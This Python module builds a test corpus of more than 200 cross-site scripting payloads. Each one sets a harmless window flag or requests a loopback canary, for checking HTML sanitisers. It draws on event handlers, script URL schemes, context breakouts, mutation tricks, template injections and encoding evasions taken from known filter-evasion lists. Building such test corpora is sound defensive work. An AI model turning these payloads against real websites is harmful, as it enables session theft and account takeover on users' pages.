"""Payloads that would run where a page takes somebody's words for markup: at least 200, each harmless.

All that one does when it runs is to set ``window.evil`` or to ask for a picture of ``canary``, an address on loopback that counts. They are
made of the ways into a page (an element, an attribute, an address, a style, a template) and of the ways to write them.
Source: the event handlers and elements of the WHATWG HTML standard; the contexts of the OWASP XSS filter evasion page.
"""

from __future__ import annotations

import base64
from typing import Final

RUN: Final = "window.evil=1"
_EVENTS: Final = {
    "img src=x": "error",
    "img src=data:, ": "load",
    "image src=x": "error",
    "video src=x": "error",
    "audio src=x": "error",
    "video autoplay><source src=x": "error",
    "input autofocus": "focus",
    "textarea autofocus": "focus",
    "select autofocus": "focus",
    "button autofocus": "focus",
    "keygen autofocus": "focus",
    "div tabindex=1 autofocus": "focus",
    "a href=# autofocus": "focus",
    "details open": "toggle",
    "body": "pageshow",
    "frameset": "load",
    "iframe src=about:blank": "load",
    "object data=x": "error",
    "embed src=x": "load",
    "script src=x": "error",
    "link rel=stylesheet href=x": "error",
    "style": "load",
    "svg": "load",
    "svg><animate attributeName=x dur=1s": "begin",
    "svg><set attributeName=x dur=1s": "end",
    "svg><image href=x": "error",
    "math><maction actiontype=statusline": "mouseover",
    "marquee": "start",
    "marquee loop=1 width=0": "finish",
    "p style='animation:spin 1s'": "animationstart",
    "p style='transition:color 1s'": "transitionend",
    "form id=f><input form=f": "input",
    "dialog open": "close",
    "meter value=1": "mouseover",
    "table background=x": "mouseover",
    "bdo dir=rtl": "mouseover",
    "track src=x": "error",
    "isindex type=image src=x": "error",
    "xss contenteditable autofocus": "focus",
}
_WRITTEN: Final = (
    "<{element} on{event}={run}>",
    '<{element} on{event}="{run}">',
    "<{ELEMENT}/oN{event}='{run}'//",
    '"><{element} on{event}={run}>',
)
_SCHEMES: Final = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "javascript&colon;{run}", "&#106;avascript:{run}",
    "&#x6A&#x61&#x76&#x61script:{run}", "javascript://x%0A{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,{coded}", "data:image/svg+xml,<svg onload={run}>", "blob:{run}", "view-source:javascript:{run}",
)  # fmt: skip
_ADDRESSED: Final = (
    "<a href='{address}'>x</a>", "<iframe src='{address}'></iframe>", "<form action='{address}'><button autofocus>x</button></form>",
    "<svg><a xlink:href='{address}'><text y=9>x</text></a></svg>",
)  # fmt: skip
_OTHERS: Final = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>", "<<script>{run}//<</script>", "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">", "<svg><script>{run}</script></svg>", "<svg><style><img src=x onerror={run}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<template><script>{run}</script></template>", "<iframe srcdoc=\"<script>parent.{run}</script>\">", "<object data='{canary}'></object>",
    "<embed src='{canary}'>", "<img src='{canary}'>", "<img srcset='{canary} 2x'>", "<link rel=stylesheet href='{canary}'>",
    "<style>@import '{canary}';</style>", "<p style='background:url({canary})'>x</p>", "<meta http-equiv=refresh content='0;url={canary}'>",
    "<base href='{canary}'>", "<video poster='{canary}'></video>", "<input type=image src='{canary}'>", "<table background='{canary}'>",
    "<body background='{canary}'>", "<svg><use href='{canary}#x'></use></svg>", "<svg><image href='{canary}'/></svg>",
    "<audio src='{canary}' autoplay>",
    "<iframe src='{canary}'></iframe>", "<a ping='{canary}' href='#x'>x</a>", "<form action='{canary}'><input autofocus></form>",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{% {run} %}}",
    "[[{run}]]",
    "[x](javascript:{run})", "![x]({canary})", "<javascript:{run}>", "[x]: javascript:{run}", "'-{run}-'", "\\\"-{run}-\"", "';{run};//",
    "\u202e<script>{run}</script>", "\u2028<img src=x onerror={run}>", "\ufeff<svg onload={run}>", "＜script＞{run}＜/script＞",
    "&lt;script&gt;{run}&lt;/script&gt;", "%3Cscript%3E{run}%3C/script%3E", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<a\u00a0href=javascript:{run}>x</a>",
    "<x-y is=img onerror={run}>", "<slot onslotchange={run}></slot>", "<img/src='x'/onerror='{run}'", "<img src=`x` onerror=`{run}`>",
)  # fmt: skip


def payloads(canary: str) -> list[str]:
    """All of them, each once. ``canary``: an address that counts who asks."""
    coded = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    known = {"run": RUN, "canary": canary, "coded": coded}
    made = [
        written.format(element=element, ELEMENT=element.upper(), event=event, run=RUN)
        for element, event in _EVENTS.items()
        for written in _WRITTEN
    ]
    made += [one.format(address=scheme.format(**known)) for one in _ADDRESSED for scheme in _SCHEMES]
    made += [one.format(**known) for one in _OTHERS]
    return list(dict.fromkeys(made))
